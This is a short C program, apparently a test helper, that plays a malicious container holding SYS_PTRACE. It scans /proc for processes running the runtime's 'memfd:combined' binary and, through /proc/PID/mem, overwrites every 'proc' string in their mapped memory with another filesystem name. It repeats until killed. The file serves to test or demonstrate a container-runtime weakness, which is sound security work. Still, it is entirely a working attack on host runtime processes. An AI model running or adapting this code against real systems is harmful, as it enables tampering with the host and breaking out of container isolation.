/*
 * What a container with SYS_PTRACE does to a process of the runtime's that asks
 * for /proc: writes the name of another filesystem over "proc" in its memory.
 *
 *     attack-proc NAME
 *
 * Says "written" for each. Goes on until it is killed.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void
write_over(int memory, unsigned long from, unsigned long to, const char *name)
{
	static char text[1 << 16];
	const size_t size = strlen(name) + 1;

	ssize_t n = to - from > sizeof(text)
			? -1
			: pread(memory, text, to - from, from);
	for (ssize_t i = 0; i + 5 <= n; i++)
		if (memcmp(text + i, "proc", 5) == 0 &&
		    pwrite(memory, name, size, from + i) == (ssize_t)size)
			puts("written");
}

static void
change(const char *pid, const char *name)
{
	char path[300], line[300] = "";
	unsigned long from, to;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	if (readlink(path, line, sizeof(line) - 1) <= 0 ||
	    strstr(line, "memfd:combined") == NULL)
		return;
	snprintf(path, sizeof(path), "/proc/%s/maps", pid);
	FILE *maps = fopen(path, "re");
	snprintf(path, sizeof(path), "/proc/%s/mem", pid);
	int memory = open(path, O_RDWR | O_CLOEXEC);
	while (maps != NULL && fgets(line, sizeof(line), maps) != NULL)
		if (strstr(line, "memfd:combined") != NULL &&
		    sscanf(line, "%lx-%lx", &from, &to) == 2)
			write_over(memory, from, to, name);
	if (maps != NULL)
		fclose(maps);
	close(memory);
}

int
main(int argc, char *argv[])
{
	if (argc != 2)
		return 2;
	setvbuf(stdout, NULL, _IOLBF, 0);
	for (;;) {
		DIR *proc = opendir("/proc");

		if (proc == NULL)
			return 1;
		for (struct dirent *e; (e = readdir(proc)) != NULL;)
			if (atoi(e->d_name) > 1 && atoi(e->d_name) != getpid())
				change(e->d_name, argv[1]);
		closedir(proc);
	}
}
